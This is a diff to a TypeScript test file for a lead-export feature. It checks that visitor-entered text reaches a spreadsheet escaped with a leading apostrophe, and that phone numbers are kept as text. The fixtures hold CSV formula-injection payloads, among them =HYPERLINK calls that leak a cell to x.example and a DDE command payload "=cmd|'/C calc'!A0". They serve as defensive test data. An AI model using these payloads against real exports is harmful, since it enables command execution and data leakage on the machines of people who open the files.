@@ -69,7 +69,9 @@ const FIXTURES = [
     emailjs: "sent",
     webhook: "",
     // Line breaks alone, nothing else that needs quotes: the break itself must.
-    enquiry: { name: "Meera Iyer", message: "Need a website\nand an app" },
+    // A 12-digit phone, which a spreadsheet would show as 9.19877E+11 unless it is text.
+    enquiry: { name: "Meera Iyer", message: "Need a website\nand an app", phoneNumber: "919876543210" },
+    shown: {},
     sourceLine: "direct",
     clickId: "",
     source: { landing: "/" },
@@ -84,6 +86,12 @@ const FIXTURES = [
       name: '=HYPERLINK("http://x.example","Hi")',
       email: "-asha@example.in",
       message: '=HYPERLINK("http://x.example/?"&A1,"Open")\n+1, -2 and @SUM(A1:A9); "quoted", too',
+    },
+    // A ' wherever a cell could start: the text's start, after a line break or a separator.
+    shown: {
+      name: `'=HYPERLINK("http://x.example","Hi")`,
+      email: "'-asha@example.in",
+      message: `'=HYPERLINK("http://x.example/?"&A1,"Open")\n'+1,' -2 and @SUM(A1:A9); "quoted", too`,
     },
     sourceLine: "google / cpc / spring-launch",
     clickId: "gclid=Cj0KCQ-abc_123",
@@ -107,6 +115,8 @@ const FIXTURES = [
       name: "आशा राव 🙏🏽",
       message: 'नमस्ते, "चेन्नई" वणक்கம்,\r\nsecond line\nthird 👍🏽 👨‍👩‍👧',
     },
+    // A carriage return is a formula character, here after a comma.
+    shown: { message: `नमस्ते, "चेन्नई" वणक்கம்,'\r\nsecond line\nthird 👍🏽 👨‍👩‍👧` },
     sourceLine: "linkedin.com (referral)",
     clickId: "",
     source: { referrer: "https://www.linkedin.com" },
@@ -119,6 +129,7 @@ const FIXTURES = [
     emailjs: "",
     webhook: "",
     enquiry: { name: "\rcarriage", message: "\r\n=1+1" },
+    shown: { name: "'\rcarriage", message: "'\r\n'=1+1" },
     sourceLine: "direct",
     clickId: "",
     source: { landing: "/services" },
@@ -131,6 +142,7 @@ const FIXTURES = [
     webhook: "failed",
     destinations: { emailjs: "sent", webhook: "failed" },
     enquiry: { name: "Kiran 👋", message: '=1+2, "webhook"\nनमस्ते' },
+    shown: { message: `'=1+2, "webhook"\nनमस्ते` },
     sourceLine: "direct",
     clickId: "",
     source: { landing: "/" },
@@ -142,6 +154,7 @@ const FIXTURES = [
     emailjs: "pending",
     webhook: "",
     enquiry: { name: "+1 Sales", message: "-2 items" },
+    shown: { name: "'+1 Sales", message: "'-2 items" },
     sourceLine: "'=cmd|'/C calc'!A0 / (not set)",
     clickId: "",
     source: { parameters: { utm_source: "=cmd|'/C calc'!A0" } },
@@ -153,6 +166,7 @@ const FIXTURES = [
     emailjs: "",
     webhook: "",
     enquiry: { name: "@SUM(A1:A9)", message: "\tleading tab\ra lone CR" },
+    shown: { name: "'@SUM(A1:A9)", message: "'\tleading tab\ra lone CR" },
     sourceLine: "unknown",
     clickId: "",
     source: undefined,
@@ -164,15 +178,14 @@ const FIXTURES = [
     emailjs: "",
     webhook: "pending",
     destinations: { webhook: "pending" },
-    enquiry: { name: "Ravi", message: "-1 day" },
+    // In a spreadsheet splitting on ; (most European locales), what follows the ; is a cell.
+    enquiry: { name: "a;=1+1", message: "-1 day" },
+    shown: { name: "a;'=1+1", message: "'-1 day" },
     sourceLine: "direct",
     clickId: "",
     source: { landing: "/" },
   },
 ] as const;
-
-/** OWASP's rule: a cell the visitor wrote that a spreadsheet would run starts with '. */
-const asText = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
 
 /** Writes the fixtures as the folder store keeps them; the stored leads by label. */
 function writeFixtures(storeDir: string): Map<string, Stored> {
@@ -215,18 +228,22 @@ type Stored = Pick<LeadFile, "id" | "receivedAt" | "enquiry">;
 
 /** The row the export should hold for a fixture, from the stored lead's own values. */
 function expectedRow(fixture: (typeof FIXTURES)[number], lead: Stored): string[] {
-  const { name, email, countryCode, phoneNumber, message } = lead.enquiry;
+  const { countryCode, phoneNumber } = lead.enquiry;
+  // The visitor's text as the fixture says a spreadsheet is given it; unchanged when it says nothing.
+  const shown: { name?: string; email?: string; message?: string } = fixture.shown;
+  const { name, email, message } = { ...lead.enquiry, ...shown };
   return [
     lead.id,
     lead.receivedAt,
     fixture.state,
     fixture.emailjs,
     fixture.webhook,
-    asText(name),
-    asText(email),
-    countryCode,
-    phoneNumber,
-    asText(message),
+    name,
+    email,
+    // Text in a spreadsheet: its leading zero and every digit kept.
+    `'${countryCode}`,
+    `'${phoneNumber}`,
+    message,
     fixture.sourceLine,
     fixture.clickId,
   ];
